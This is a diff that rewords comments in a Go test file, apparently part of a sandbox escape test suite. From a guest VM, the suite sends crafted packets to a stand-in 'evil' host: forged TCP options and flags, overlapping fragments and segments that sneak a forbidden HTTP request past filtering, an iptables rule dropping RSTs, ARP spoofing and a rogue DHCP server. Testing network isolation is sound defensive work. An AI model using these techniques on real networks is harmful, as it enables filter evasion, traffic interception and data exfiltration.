@@ -18,7 +18,7 @@ import (
 	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
 )
 
-// packets are techniques below TCP and UDP, or with their headers forged.
+// packets are the techniques below TCP and UDP, or with forged headers.
 func packets() map[string]func(*attempt) {
 	proto := func(protos ...byte) func(*attempt) {
 		return withCard(func(a *attempt, c *card) {
@@ -28,7 +28,7 @@ func packets() map[string]func(*attempt) {
 			}
 		})
 	}
-	// routed is a datagram and a SYN with an IP option that names the way.
+	// routed sends a datagram and a SYN with an IP option for source routing.
 	routed := func(option byte) func(*attempt) {
 		return withCard(func(a *attempt, c *card) {
 			evil := netip.MustParseAddr(plan.Evil).As4()
@@ -86,14 +86,15 @@ func packets() map[string]func(*attempt) {
 		"route-record": routed(0x07),
 		"tcp-options": withCard(func(a *attempt, c *card) {
 			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoTCP}
-			// Fast open with data in the SYN, MPTCP, MD5, and options that lie about their length.
+			// Fast open with data in the SYN, MPTCP, MD5, and options with a false
+			// length.
 			c.out(h.packet(h.tcp(40003, 80, 1, 0, flagSYN, []byte{34, 2}, a.get(plan.Evil))),
 				h.packet(h.tcp(40004, 80, 1, 0, flagSYN, []byte{30, 12, 0, 0x81, 1, 2, 3, 4, 5, 6, 7, 8}, a.token)),
 				h.packet(h.tcp(40005, 80, 1, 0, flagSYN, []byte{19, 18, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}, a.token)),
 				h.packet(h.tcp(40006, 80, 1, 0, flagSYN|flagPSH, []byte{2, 0, 8, 200}, a.token)))
 		}),
 		"tcp-flags": withCard(func(a *attempt, c *card) {
-			// Data without a handshake, with every set of flags there is.
+			// Data without a handshake, with every combination of flags.
 			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoTCP}
 			for flags := range 64 {
 				c.out(h.packet(h.tcp(uint16(41000+flags), 80, 1, 1, byte(flags), nil, a.token)))
@@ -142,7 +143,7 @@ func udpAllowed(a *attempt) {
 	}
 }
 
-// icmpEcho is ping with the token as its data, over the kernel's own socket.
+// icmpEcho pings with the token as its data, over the kernel's own socket.
 func icmpEcho(a *attempt) { a.ping(plan.Evil); a.ping(plan.LAN) }
 
 func icmpAllowed(a *attempt) {
@@ -161,13 +162,13 @@ func (a *attempt) ping(addr string) {
 	for range 3 {
 		_, err := c.Write(icmp(8, 0, a.token))
 		b := make([]byte, 512)
-		_ = c.SetReadDeadline(time.Now().Add(time.Second)) // an error shows in the read
+		_ = c.SetReadDeadline(time.Now().Add(time.Second)) // the read reports an error
 		n, rerr := c.Read(b)
 		say("ping %s: %v read %q %v", addr, err, b[:n], rerr)
 	}
 }
 
-// fragments is one datagram in two packets.
+// fragments sends one datagram in two packets.
 func fragments(a *attempt, c *card) {
 	h := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP, id: 0x4242}
 	whole := h.udp(9, strings.Repeat("f", 24)+a.token)
@@ -195,8 +196,8 @@ func tinyFragments(a *attempt, c *card) {
 	c.out(out...)
 }
 
-// overlappingFragments starts as a question to the gateway's DNS and is written
-// over with a datagram's other end.
+// overlappingFragments starts as a question to the gateway's DNS and is then
+// overwritten with the rest of another datagram.
 func overlappingFragments(a *attempt, c *card) {
 	for _, dst := range []string{plan.Evil, plan.Gateway} {
 		h := header4{src: plan.Guest, dst: dst, proto: protoUDP, id: 0x4444}
@@ -209,7 +210,8 @@ func overlappingFragments(a *attempt, c *card) {
 		over := h.packet(bad[8:24])
 		h.fragment = 2
 		c.out(first, again, over, h.packet(bad[16:]))
-		// Written over with the same bytes, it is a datagram that a lenient stack takes.
+		// Overwritten with the same bytes, it is a datagram that a lenient stack
+		// accepts.
 		h.id, h.fragment = 0x4445, 1<<13
 		one := h.packet(bad[:24])
 		h.fragment = 2
@@ -217,25 +219,25 @@ func overlappingFragments(a *attempt, c *card) {
 	}
 }
 
-// overlappingSegments is a client of its own that sends an allowed request and,
-// in the same place of the stream, a forbidden one: before it and after it,
-// because stacks differ in which of two they keep.
+// overlappingSegments implements its own TCP client. It sends an allowed request and,
+// at the same position in the stream, a forbidden one: both before and after it,
+// because stacks differ in which of the two they keep.
 func overlappingSegments(a *attempt, c *card) {
 	addrs := a.resolve(plan.Allowed)
 	if len(addrs) == 0 {
 		return
 	}
-	// The kernel knows nothing of these connections and would reset them.
+	// The kernel does not know these connections and would reset them.
 	drop := []string{"OUTPUT", "-p", "tcp", "--sport", "45000:45001", "--tcp-flags", "RST", "RST", "-j", "DROP"}
 	if out, err := exec.Command("iptables", append([]string{"-I"}, drop...)...).CombinedOutput(); err != nil {
 		say("iptables: %v %s", err, out)
 	}
-	defer exec.Command("iptables", append([]string{"-D"}, drop...)...).Run() //nolint:errcheck // the VM goes anyway
+	defer exec.Command("iptables", append([]string{"-D"}, drop...)...).Run() //nolint:errcheck // the VM is removed anyway
 	head := "GET /" + a.token + " HTTP/1.1\r\nHost: "
 	good := head + plan.Allowed + "\r\n\r\n"
 	bad := head + plan.EvilCDN + "\r\n\r\n"
 	n := max(len(good), len(bad))
-	good += strings.Repeat("\r\n", (n-len(good)+1)/2) // empty lines, so that both are as long
+	good += strings.Repeat("\r\n", (n-len(good)+1)/2) // empty lines, so that both have the same length
 	bad += strings.Repeat("\r\n", (n-len(bad)+1)/2)
 	n = min(len(good), len(bad))
 	h := header4{src: plan.Guest, dst: addrs[0].Unmap().String(), proto: protoTCP}
@@ -254,9 +256,9 @@ func overlappingSegments(a *attempt, c *card) {
 			segment(from, len(head), tail[len(head):n])
 		}
 		segment(from, 0, head)                                // completes either
-		segment(from, len(head)-10, tails[1][len(head)-10:n]) // and once more, over the edge
+		segment(from, len(head)-10, tails[1][len(head)-10:n]) // once more, across the boundary
 		say("overlapping segments sent to %s", h.dst)
-		time.Sleep(answerTime / 3) // its answer is not read; it is let live for a moment
+		time.Sleep(answerTime / 3) // the answer is not read; the connection stays open for a moment
 		c.once(h.packet(h.tcp(from, 80, 1000+uint32(n), seq+1, flagRST|flagACK, nil, "")))
 	}
 }
@@ -271,7 +273,7 @@ func (c *card) once(packet []byte) {
 
 // synAck waits for the other side's first sequence number.
 func (c *card) synAck(port uint16) (uint32, bool) {
-	_ = syscall.SetsockoptTimeval(c.fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &syscall.Timeval{Sec: 1}) // without it the wait is for the next frame
+	_ = syscall.SetsockoptTimeval(c.fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &syscall.Timeval{Sec: 1}) // otherwise it would block until the next frame
 	b := make([]byte, 65536)
 	for end := time.Now().Add(connectTime); time.Now().Before(end); {
 		n, _, err := syscall.Recvfrom(c.fd, b, 0)
@@ -304,7 +306,8 @@ func linkLocal(mac net.HardwareAddr) string {
 	return netip.AddrFrom16(b).String()
 }
 
-// v6Auto lets the kernel find IPv6 by itself, and helps when it does not.
+// v6Auto lets the kernel configure IPv6 automatically, and configures it manually if
+// that fails.
 func v6Auto(a *attempt) {
 	dev := device()
 	for _, key := range []string{"all", dev} {
@@ -328,10 +331,10 @@ func v6Auto(a *attempt) {
 	a.send("fec0::2", plan.HostPort, a.get("localhost"))
 }
 
-// neighbours are techniques on the guest's own network: who else is there, and
-// who can be taken for somebody else.
+// neighbours are the techniques on the guest's own network: finding other hosts, and
+// impersonating them.
 func neighbours() map[string]func(*attempt) {
-	// as sends a datagram of an address and a card that are not the guest's.
+	// as returns a datagram from an address and a card that are not the guest's.
 	as := func(c *card, mac net.HardwareAddr, src, token string) []byte {
 		h := header4{src: src, dst: plan.Evil, proto: protoUDP}
 		return frame(c.gateway, mac, typeIPv4, h.packet(h.udp(9, token)))
@@ -356,7 +359,8 @@ func neighbours() map[string]func(*attempt) {
 			c.send(frame(broadcastMAC, c.mac, typeIPv4, p), frame(other, c.mac, typeIPv4, p), frame(c.mac, c.mac, typeIPv4, p), frame(net.HardwareAddr{1, 0, 0x5e, 0, 0, 1}, c.mac, typeIPv4, p))
 		}),
 		"arp-spoof": withCard(func(a *attempt, c *card) {
-			// Claim the gateway, a neighbour and the host, then speak as the neighbour.
+			// Claim the gateway, a neighbour and the host, then send as the
+			// neighbour.
 			c.send(frame(broadcastMAC, c.mac, typeARP, arp(2, c.mac, plan.Gateway, broadcastMAC, plan.Gateway)),
 				frame(c.gateway, c.mac, typeARP, arp(2, c.mac, "192.168.5.77", c.gateway, plan.Gateway)),
 				frame(c.gateway, c.mac, typeARP, arp(2, other, plan.Guest, c.gateway, plan.Gateway)))
@@ -395,8 +399,8 @@ func neighbours() map[string]func(*attempt) {
 	}
 }
 
-// dhcpOther asks for a lease on another card and another address, and speaks
-// as whoever it would be.
+// dhcpOther asks for a lease on another card and another address, and sends from the
+// address it would get.
 func dhcpOther(a *attempt, c *card) {
 	other := net.HardwareAddr{0x52, 0x55, 0x55, 9, 9, 9}
 	for _, mac := range []net.HardwareAddr{other, c.mac} {
@@ -425,7 +429,7 @@ func dhcpOther(a *attempt, c *card) {
 	}
 }
 
-// dhcpServer offers everybody on the network the guest as their router.
+// dhcpServer offers the guest as router to every host on the network.
 func dhcpServer(a *attempt, c *card) {
 	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeOffer), dhcpv4.WithYourIP(net.IPv4(192, 168, 5, 15)),
 		dhcpv4.WithOption(dhcpv4.OptRouter(net.ParseIP(plan.Guest))), dhcpv4.WithOption(dhcpv4.OptDNS(net.ParseIP(plan.Guest))), dhcpv4.WithOption(dhcpv4.OptDomainName(a.token)))
@@ -441,7 +445,7 @@ func dhcpServer(a *attempt, c *card) {
 	c.send(frame(broadcastMAC, c.mac, typeIPv4, h.packet(u)), frame(c.gateway, c.mac, typeIPv4, h.packet(u)))
 }
 
-// badFrames are short, cut off, and random ones.
+// badFrames sends short, truncated and random frames.
 func badFrames(a *attempt, c *card) {
 	var frames [][]byte
 	for n := range 60 {
